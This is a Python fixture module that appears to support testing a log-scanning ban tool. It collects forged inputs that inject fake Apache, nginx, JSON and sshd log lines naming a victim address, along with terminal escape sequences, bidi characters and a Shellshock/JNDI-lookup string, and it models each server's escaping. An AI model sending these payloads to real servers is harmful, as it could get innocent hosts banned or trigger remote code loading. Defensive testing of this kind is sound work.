"""What attackers write so that somebody else is banned, and how servers log it.

Every attempt comes from ATTACKER; most name VICTIM. `FORGERIES` are a client's bytes; a `Writer` makes of them the line
that a server logs, with the server's own escapes, or none (`raw`: a server that escapes nothing; a newline, which none
lets through, is left out there).
"""

from __future__ import annotations

import json
from collections.abc import Callable

ATTACKER = "203.0.113.7"
VICTIM = "192.0.2.99"
TIME = "20/Jun/2016:11:17:34 -0400"
NOW_TS = 1_466_436_000.0

_FAKE = f'{VICTIM} - - [{TIME}] "POST /xmlrpc.php HTTP/1.0" 200 820 "-" "sqlmap/1.0"'
_FAKE_VHOST = f"www.example.org {_FAKE}"
_FAKE_SYSLOG = f"Jun 20 11:17:34 web sshd[7]: Failed password for root from {VICTIM} port 22 ssh2"
_FAKE_JSON = json.dumps({"ts": 1466435854.0, "request": {"remote_ip": VICTIM, "method": "POST", "uri": "/xmlrpc.php"}})

_TEXTS = (
    # whole lines, after whatever could end one
    *(f"{end}{fake}" for end in ("", '"', '" 200 5 "-" "-"\n', "\n", "\r\n", "\r") for fake in (_FAKE, _FAKE_VHOST)),
    *(f"x{end}{_FAKE}" for end in ("\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\0", "\x1a")),
    *(f"x{end}{_FAKE_SYSLOG}" for end in ("\n", "\r", "\0", "]: ", "\\n", "#012")),
    f"\n{_FAKE_JSON}",
    # escapes of escapes
    f'\\" 200 5 "-" "-"\\n{_FAKE}',
    f'\\\\" 200 5 "-" "-"\n{_FAKE}',
    f"\\x22 200 5 \\x0a{_FAKE}",
    f"%22%0A{_FAKE}",
    "\\",
    '"',
    '\\"',
    "x\\",
    # pieces that could move a field
    f'" {VICTIM} - - [{TIME}] "',
    f"- - [{TIME}] {VICTIM}",
    f"{VICTIM} - -",
    f" {VICTIM} ",
    f"] [{VICTIM}] [{TIME}",
    f'[{TIME}] "GET / HTTP/1.1" 200 1 "-" "-" "{VICTIM}"',
    f'HTTP/1.1" 404 1 "-" "-" "{VICTIM}"',
    # addresses in other spellings
    f"::ffff:{VICTIM}",
    f"[::ffff:{VICTIM}]:443",
    "::ffff:c000:263",
    f"{VICTIM}%eth0",
    f"fe80::1%{VICTIM}",
    "3221226083",
    "0300.0.2.0143",
    # headers that proxies write
    f"{VICTIM}, 5.6.7.8",
    f"5.6.7.8, {VICTIM}",
    f"for={VICTIM}",
    f'for="[::ffff:{VICTIM}]:80";by=10.0.0.1, for={VICTIM}',
    # what sshd says after a name
    f"root from {VICTIM} port 22 ssh2",
    f"x from {VICTIM} port 22",
    f"x from {VICTIM} port 22 ssh2: RSA SHA256:abc",
    f"x {VICTIM} port 22 [preauth]",
    f"x from {VICTIM} not allowed because not listed in AllowUsers",
    f"x {VICTIM} port 22: Too many authentication failures [preauth]",
    f"x rhost={VICTIM}  user=root",
    # JSON in JSON
    f'","remote_ip":"{VICTIM}","x":"',
    f'"}},"remote_ip":"{VICTIM}","request":{{"remote_ip":"{VICTIM}","a":"',
    f'\\","client_ip":"{VICTIM}',
    # what a terminal obeys
    f"\x1b]0;owned\x07\x1b[2J\x1b[1;1H{VICTIM}",
    "\x1bP+q544e\x1b\\\x9b31m\x08\x08\x7f",
    f"\u202e{VICTIM}\u2066\u200f\ufeff",
    "\ud7ff\U000e0041\U0010ffff",
    f"[bold red]{VICTIM}[/]",
)  # fmt: skip
FORGERIES: tuple[bytes, ...] = (
    *(text.encode() for text in _TEXTS),
    b"\xff\xfe\x80" + VICTIM.encode(),
    b"\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"() { :;}; ${jndi:ldap://" + VICTIM.encode() + b"}",
)


def apache(sent: bytes) -> bytes:
    """What Apache's ap_escape_logitem makes of a client's bytes."""
    named = {10: b"\\n", 13: b"\\r", 9: b"\\t", 8: b"\\b", 11: b"\\v", 34: b'\\"', 92: b"\\\\"}
    return b"".join(named.get(b) or (bytes((b,)) if 32 <= b < 127 else b"\\x%02x" % b) for b in sent)


def nginx(sent: bytes) -> bytes:
    """nginx's `escape=default`."""
    return b"".join(bytes((b,)) if 32 <= b < 127 and b not in b'"\\' else b"\\x%02X" % b for b in sent)


def in_json(sent: bytes) -> bytes:
    """A JSON string's inside, as Go's and other encoders write it: bytes that are no UTF-8 replaced."""
    return json.dumps(sent.decode("utf-8", "replace"), ensure_ascii=False)[1:-1].encode()


def nginx_json(sent: bytes) -> bytes:
    """nginx's `escape=json`: bytes that are no UTF-8 stay."""
    named = {10: b"\\n", 13: b"\\r", 9: b"\\t", 8: b"\\b", 12: b"\\f", 34: b'\\"', 92: b"\\\\"}
    return b"".join(named.get(b) or (bytes((b,)) if b >= 32 else b"\\u%04X" % b) for b in sent)


def sshd(sent: bytes) -> bytes:
    """OpenSSH's strnvis(VIS_SAFE|VIS_OCTAL)."""
    return b"".join(bytes((b,)) if 32 <= b < 127 and b != 92 else b"\\\\" if b == 92 else b"\\%03o" % b for b in sent)


def raw(sent: bytes) -> bytes:
    """No escape at all; a newline is what no server lets through."""
    return sent.replace(b"\n", b"")


Escape = Callable[[bytes], bytes]
HTTP_FIELDS = ("agent", "referer", "target", "query", "request", "user", "header")
_COMBINED = "{client} - {user} [" + TIME + '] "{request}" 404 820 "{referer}" "{agent}"'
_CADDY = (
    '{"level":"info","ts":1466435854.5,"logger":"http.log.access","msg":"handled request","request":{"remote_ip":'
    '"{client}","remote_port":"41342","client_ip":"{client}","proto":"HTTP/1.1","method":"POST","host":"example.org",'
    '"uri":"{uri}","headers":{"User-Agent":["{agent}"],"Referer":["{referer}"],"X-Forwarded-For":["{header}"]}},'
    '"user_id":"{user}","duration":0.1,"size":5,"status":404}'
)
_TRAEFIK = (
    '{"ClientAddr":"{client}:50000","ClientHost":"{client}","ClientUsername":"{user}","DownstreamStatus":404,'
    '"RequestMethod":"POST","RequestPath":"{uri}","time":"2016-06-20T15:17:34Z","request_User-Agent":"{agent}",'
    '"request_Referer":"{referer}","request_X-Forwarded-For":"{header}"}'
)
_FLAT = (
    '{"time":"2016-06-20T11:17:34-04:00","remote_addr":"{client}","remote_user":"{user}","request":"{request}",'
    '"status":404,"body_bytes_sent":5,"http_referer":"{referer}","http_user_agent":"{agent}",'
    '"http_x_forwarded_for":"{header}"}'
)
# (format spec, template, escape)
HTTP_WRITERS: dict[str, tuple[str, str, Escape]] = {
    "combined": ("combined", _COMBINED, apache),
    "combined by nginx": ("combined", _COMBINED, nginx),
    "combined, raw": ("combined", _COMBINED, raw),
    "vhost_combined": ("vhost_combined", "www.example.org:443 " + _COMBINED, apache),
    "vhost_combined, raw": ("vhost_combined", "www.example.org:443 " + _COMBINED, raw),
    "main": ("main", _COMBINED + ' "{header}"', nginx),
    "main, raw": ("main", _COMBINED + ' "{header}"', raw),
    "caddy": ("caddy", _CADDY, in_json),
    "traefik": ("traefik", _TRAEFIK, in_json),
    "json by nginx": ("json", _FLAT, nginx_json),
    "json, but not escaped as JSON": ("json", _FLAT, nginx),
    "json by Apache": ("json", _FLAT, apache),
}
_SSHD = "Jun 20 11:17:34 web sshd[24200]: "
_SAID = (
    "Failed password for invalid user {sent} from {client} port 4242 ssh2",
    "Failed password for {sent} from {client} port 4242 ssh2",
    "Failed keyboard-interactive/pam for invalid user {sent} from {client} port 4242 ssh2",
    "Failed publickey for invalid user {sent} from {client} port 4242 ssh2: RSA SHA256:qS2lU",
    "Invalid user {sent} from {client} port 4242",
    "User {sent} from {client} not allowed because not listed in AllowUsers",
    "Connection closed by authenticating user {sent} {client} port 4242 [preauth]",
    "Connection reset by invalid user {sent} {client} port 4242 [preauth]",
    "Disconnecting authenticating user {sent} {client} port 4242: Too many authentication failures [preauth]",
    "error: maximum authentication attempts exceeded for invalid user {sent} from {client} port 4242 ssh2 [preauth]",
    "Received disconnect from {client} port 4242:11: {sent} [preauth]",
    "Bad protocol version identification '{sent}' from {client} port 4242",
    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={client}  user={sent}",
    "message repeated 2 times: [ Failed password for invalid user {sent} from {client} port 4242 ssh2]",
)
SSHD_WRITERS: dict[str, tuple[str, Escape]] = {
    f"{said.partition('{sent}')[0][:44]}... {name}": (_SSHD + said, escape)
    for said in _SAID
    for name, escape in (("", sshd), ("raw", raw))
}


def _fill(template: str, values: dict[str, bytes]) -> bytes:
    line = template.encode()
    for name, value in values.items():
        line = line.replace(b"{%s}" % name.encode(), value)
    return line


def http_line(writer: str, field: str, sent: bytes, client: str = ATTACKER) -> bytes:
    """The line that a server logs of a request that holds `sent` in one of HTTP_FIELDS."""
    _, template, escape = HTTP_WRITERS[writer]
    target = b"/" + sent if field == "target" else b"/?q=" + sent if field == "query" else b"/xmlrpc.php"
    values = {
        "client": client.encode(),
        "request": escape(sent if field == "request" else b"POST " + target + b" HTTP/1.1"),
        "uri": escape(sent if field == "request" else target),
        **{name: escape(sent if field == name else b"-") for name in ("agent", "referer", "user", "header")},
    }
    return _fill(template, values)


def sshd_line(writer: str, sent: bytes, client: str = ATTACKER) -> bytes:
    """The line that sshd logs of a login (or a farewell) that holds `sent`."""
    template, escape = SSHD_WRITERS[writer]
    return _fill(template, {"client": client.encode(), "sent": escape(sent)})


def journal_line(line: bytes) -> bytes:
    """The same message as `journalctl -o json` prints it."""
    message = line.partition(b"]: ")[2].decode("utf-8", "replace")
    entry = {"__REALTIME_TIMESTAMP": "1466435854000000", "SYSLOG_IDENTIFIER": "sshd", "_COMM": "sshd"}
    return json.dumps({**entry, "MESSAGE": message}).encode()
